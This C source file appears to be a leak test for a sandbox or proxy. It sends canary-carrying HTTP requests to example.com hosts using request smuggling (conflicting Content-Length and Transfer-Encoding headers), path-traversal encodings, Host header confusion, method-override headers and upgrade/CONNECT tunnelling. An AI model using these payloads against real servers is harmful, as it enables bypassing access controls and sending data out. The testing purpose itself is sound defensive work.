// Through a door that is open: requests to a host that is granted, which say something that is not.
// The host's server notes whatever holds the canary.
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"

#define HOST "Host: up.example.com:%d\r\n"
#define HIDDEN "GET /secret/" CANARY " HTTP/1.1\r\n" HOST "\r\n"

static int port(void) { return param_port("upstream"); }

static char *with_ports(const char *format) { return text(format, port(), port(), port(), port()); }

static void ask(const char *format) { try_say("up.example.com", port(), with_ports(format)); }

int attack_smuggled_request(void) {
  static const char *const bodies[] = {
      "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" HIDDEN,
      "Transfer-Encoding: chunked\r\nContent-Length: 400\r\n\r\n0\r\n\r\n" HIDDEN,
      "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" HIDDEN,
      "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" HIDDEN,
      "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" HIDDEN,
      "Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" HIDDEN,
      "Transfer-Encoding: \x0B" "chunked\r\n\r\n0\r\n\r\n" HIDDEN,
      "Transfer_Encoding: chunked\r\nContent-Length: 200\r\n\r\n0\r\n\r\n" HIDDEN,
      "X: y\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" HIDDEN,
      "X: y\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" HIDDEN,
      "Content-Length: 0\r\nContent-Length: 200\r\n\r\n" HIDDEN,
      "Content-Length: 0, 200\r\n\r\n" HIDDEN,
      "Content-Length: +200\r\n\r\n" HIDDEN,
      "Transfer-Encoding: chunked\r\n\r\n0;ext=1\r\n\r\n" HIDDEN,
      "Transfer-Encoding: chunked\r\n\r\n5\nhello\n0\n\n" HIDDEN,
      "Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" HIDDEN,
      "Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n" HIDDEN,
      "Transfer-Encoding: chunked\r\n\r\n0\r\nX: " CANARY "\r\n\r\n",
      "X: y\r\n " CANARY "\r\n\r\n",
      "\r\n" HIDDEN,
  };
  for (size_t i = 0; i < sizeof bodies / sizeof *bodies; i++)
    ask(text("%s%s", "POST /public/a HTTP/1.1\r\n" HOST, bodies[i]));
  return said();
}

int attack_path_tricks(void) {
  static const char *const paths[] = {
      "/public/../" CANARY,        "/public/%2e%2e/" CANARY,   "/public/%2E./" CANARY,
      "/public/..%2f" CANARY,     "/public/..%5c" CANARY,      "/public/.;/../" CANARY,
      "/public/..;/" CANARY,       "//public/../" CANARY,        "/public//../" CANARY,
      "/public/%252e%252e/" CANARY, "/public/%25%32%65/" CANARY, "/public/%c0%ae%c0%ae/" CANARY,
      "/public\\..\\" CANARY,      "/public/%00/" CANARY,       "/public/private/" CANARY,
      "/public/PRIVATE/" CANARY,   "/public/%70rivate/" CANARY, "/public/private./" CANARY,
      "/public/private%20/" CANARY, "/public/private;x/" CANARY, "/public/%2570rivate/" CANARY,
      "/public/%25%37%30rivate/" CANARY, "/" CANARY,          "http://127.0.0.1/public/" CANARY,
      "http://up.example.com:1/public/" CANARY};
  for (size_t i = 0; i < sizeof paths / sizeof *paths; i++)
    try_say("up.example.com", port(),
            text("GET %s HTTP/1.1\r\nHost: up.example.com:%d\r\n\r\n", paths[i], port()));
  return said();
}

int attack_other_host(void) {
  // The first request opens the door, the second asks for another house.
  ask("GET /public/a HTTP/1.1\r\n" HOST "\r\nGET /public/" CANARY " HTTP/1.1\r\nHost: other.example.com:%d\r\n\r\n");
  ask("GET /public/" CANARY " HTTP/1.1\r\nHost: other.example.com\r\n\r\n");
  ask("GET /public/" CANARY " HTTP/1.1\r\n" HOST "Host: other.example.com\r\n\r\n");
  ask("GET /public/" CANARY " HTTP/1.1\r\n\r\n");
  ask("GET /public/" CANARY " HTTP/1.1\r\nHost: x@up.example.com:%d\r\n\r\n");
  ask("GET http://other.example.com/public/" CANARY " HTTP/1.1\r\n" HOST "\r\n");
  return said();
}

int attack_method_override(void) {
  static const char *const lines[] = {"X-HTTP-Method-Override", "X-Method-Override", "X_HTTP_METHOD_OVERRIDE",
                                      "X-HTTP-Method",          "X-Original-URL",    "X-Rewrite-URL"};
  for (size_t i = 0; i < sizeof lines / sizeof *lines; i++)
    ask(text("GET /public/a HTTP/1.1\r\n%s%s: /private/" CANARY "\r\n\r\n", HOST, lines[i]));
  ask("GET /public/a?_method=" CANARY " HTTP/1.1\r\n" HOST "\r\n");
  ask("GET /public/a?x=1;_method=" CANARY " HTTP/1.1\r\n" HOST "\r\n");
  ask("DELETE /public/" CANARY " HTTP/1.1\r\n" HOST "\r\n");
  ask("TRACE /public/" CANARY " HTTP/1.1\r\n" HOST "\r\n");
  return said();
}

int attack_upgrade(void) {
  static const char *const kinds[] = {"websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
                                      "tcp", "h2c", "TLS/1.0"};
  for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
    int peer = reach_name("up.example.com", port());
    say(peer, text("GET /public/a HTTP/1.1\r\nHost: up.example.com:%d\r\nConnection: Upgrade\r\nUpgrade: %s\r\n\r\n", port(), kinds[i]));
    hear(peer);
    say(peer, CANARY " through a tunnel\n");
    hear(peer);
    if (peer >= 0) close(peer);
  }
  ask("CONNECT up.example.com:%d HTTP/1.1\r\n" HOST "\r\n" CANARY);
  return said();
}

int attack_budget(void) {
  // Within what may be sent, and then what may not.
  char *fill = text("%01000d", 0);
  for (int i = 0; i < 16; i++) {
    const char *words = i < 8 ? "nothing" : CANARY;
    char *name = text("host%d.budget.example.com", i);
    try_say(name, param_port("sink2"),
            text("GET / HTTP/1.1\r\nHost: %s:%d\r\nX: %s\r\nY: %s\r\n\r\n", name, param_port("sink2"), fill, words));
  }
  return said();
}
